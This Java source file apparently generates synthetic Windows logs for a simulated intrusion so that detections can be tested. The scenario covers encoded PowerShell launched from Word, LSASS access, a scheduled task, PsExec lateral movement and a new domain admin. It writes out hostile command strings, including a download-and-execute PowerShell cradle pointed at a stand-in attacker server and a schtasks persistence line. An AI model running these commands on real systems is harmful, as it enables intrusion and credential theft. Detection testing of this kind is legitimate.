package io.weir.generators.attack;

import io.weir.generators.Draw;
import io.weir.generators.Scenario;
import io.weir.generators.Stage;
import io.weir.generators.log.WindowsLog;
import io.weir.generators.log.WindowsLog.Logon;
import io.weir.generators.world.Host;
import io.weir.generators.world.Person;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** A workstation with a bad attachment: encoded PowerShell, stolen passwords, and from there to the servers. */
public final class WindowsIntrusion implements Scenario {
    private static final String SYSTEM = "C:\\Windows\\System32\\";
    private static final String POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe";

    @Override
    public String name() {
        return "windows-intrusion";
    }

    @Override
    public String summary() {
        return "encoded PowerShell, LSASS, a scheduled task, PsExec to other machines, a new domain admin";
    }

    @Override
    public void play(Stage stage) {
        Draw draw = stage.draw();
        WindowsLog log = stage.sensors().windows();
        int number = draw.between(0, 4);
        Host station = stage.world().workstations().get(number);
        Person victim = stage.world().people().get(number);
        String server = stage.attackersServer();
        stage.reaches(station);
        stage.uses(victim.name());

        Logon logon = log.loggedOn(stage.now(), station, victim.name(), 2, "-");
        stage.passSeconds(60, 200);
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://" + server + "/a.ps1')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        log.processStarted(
                stage.now(),
                logon,
                POWERSHELL,
                "powershell.exe -NoP -NonI -W Hidden -Enc " + encoded,
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
        stage.expect("powershell-encoded", "host.name", station.name());
        log.ranScript(stage.now().plusMillis(400), station, script);
        log.connected(stage.now().plusMillis(700), logon, POWERSHELL, server, 80);
        stage.passSeconds(20, 90);
        stealPasswords(stage, station);
        stayOn(stage, logon);
        Intruder.callHome(stage, station.address(), server, stage.count(6, 10));
        moveOn(stage, station, victim);
        stage.expectIncident("lateral-movement");
    }

    private static void stealPasswords(Stage stage, Host station) {
        stage.sensors()
                .windows()
                .processAccessed(
                        stage.now(),
                        station,
                        "C:\\Users\\Public\\" + stage.draw().letters(6) + ".exe",
                        SYSTEM + "lsass.exe",
                        stage.draw().pick(List.of("0x1010", "0x1410", "0x1438")),
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                                + "UNKNOWN(00000000021F4A1C)");
        stage.expect("lsass-access", "host.name", station.name());
        stage.passSeconds(15, 60);
    }

    private static void stayOn(Stage stage, Logon logon) {
        WindowsLog log = stage.sensors().windows();
        String payload = "C:\\Users\\Public\\" + stage.draw().letters(6) + ".exe";
        log.processStarted(
                stage.now(),
                logon,
                SYSTEM + "schtasks.exe",
                "schtasks.exe /Create /F /SC ONLOGON /TN Updater /TR " + payload,
                POWERSHELL);
        log.taskCreated(stage.now().plusMillis(60), logon, "Updater", payload, "");
        stage.expect("scheduled-task-created", "host.name", logon.host().name());
        stage.passSeconds(15, 60);
    }

    private static void moveOn(Stage stage, Host station, Person victim) {
        WindowsLog log = stage.sensors().windows();
        List<Host> others = new ArrayList<>(stage.world().hosts("files"));
        others.addAll(stage.draw().pick(stage.count(1, 3), otherStations(stage, station)));
        others.addAll(stage.world().hosts("directory"));
        for (Host other : others) {
            Logon logon = log.loggedOn(stage.now(), other, victim.name(), 3, station.address());
            log.hasPrivileges(stage.now().plusMillis(1), logon);
            stage.pass(400, 1500);
            log.serviceInstalled(stage.now(), other, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
            stage.expect("psexec-service", "host.name", other.name());
            stage.reaches(other);
            stage.passSeconds(6, 20);
            if (other.role().equals("directory")) {
                String account = "svc_" + stage.draw().letters(5);
                log.userCreated(stage.now(), logon, account);
                stage.passSeconds(2, 8);
                log.addedToDomainAdmins(stage.now(), logon, account);
                stage.uses(account);
                stage.expect("new-admin", "host.name", other.name());
            }
        }
        stage.expect("lateral-movement", "source.ip", station.address());
    }

    private static List<Host> otherStations(Stage stage, Host station) {
        return stage.world().workstations().stream()
                .filter(other -> !other.equals(station))
                .toList();
    }
}
